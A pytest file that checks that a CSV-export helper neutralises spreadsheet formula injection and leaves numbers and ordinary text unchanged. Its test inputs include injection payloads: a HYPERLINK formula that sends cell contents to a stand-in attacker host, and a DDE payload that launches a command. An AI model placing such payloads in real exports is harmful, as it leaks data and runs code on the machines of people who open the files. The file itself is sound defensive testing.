"""Text that a spreadsheet would take for a formula, in every table of comma-separated values."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from trainer.csv_text import csv_text

ROOT = Path(__file__).parents[2]
FORMULAS = (
    *('=HYPERLINK("http://evil.example?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"),
    *("\n=1", "a\r=1", "＝1+1", "a;=1+1", ";@x"),
)
BEGINS_FORMULA = re.compile(r"(^|;)[=+\-@\t\r\n＝＋－＠]")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_stays_text(text: str) -> None:
    head, row = csv.reader(io.StringIO(csv_text([{text: text, "n": -1.5}]), newline=""))
    assert [bool(BEGINS_FORMULA.search(cell)) for cell in (head[0], row[0])] == [False, False]
    assert row[0].replace("'", "") == text.replace("'", "").replace("\r", "\n")
    assert row[1] == "-1.5"


@pytest.mark.parametrize(
    "value", [-1.5, -3, "-1.5", "+2", "-inf", "nan", "loss = 3", "a-b", "a; b", None, True, ""]
)
def test_numbers_and_other_text_stay_as_they_are(value: object) -> None:
    _, row = csv.reader(io.StringIO(csv_text([{"x": value, "y": 1}]), newline=""))
    assert row[0] == ("" if value is None else str(value))


def test_a_table_without_rows_has_its_head() -> None:
    assert csv_text([], columns=("study", "trial")) == "study,trial\n"


def test_every_table_is_written_by_the_one_function() -> None:
    writers = [
        path.relative_to(ROOT).as_posix()
        for package in ("trainer", "storage", "search", "dashboards")
        for path in (ROOT / package).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)|to_csv", path.read_text())
    ]
    assert sorted(writers) == ["dashboards/safe_answers.py", "trainer/csv_text.py"]
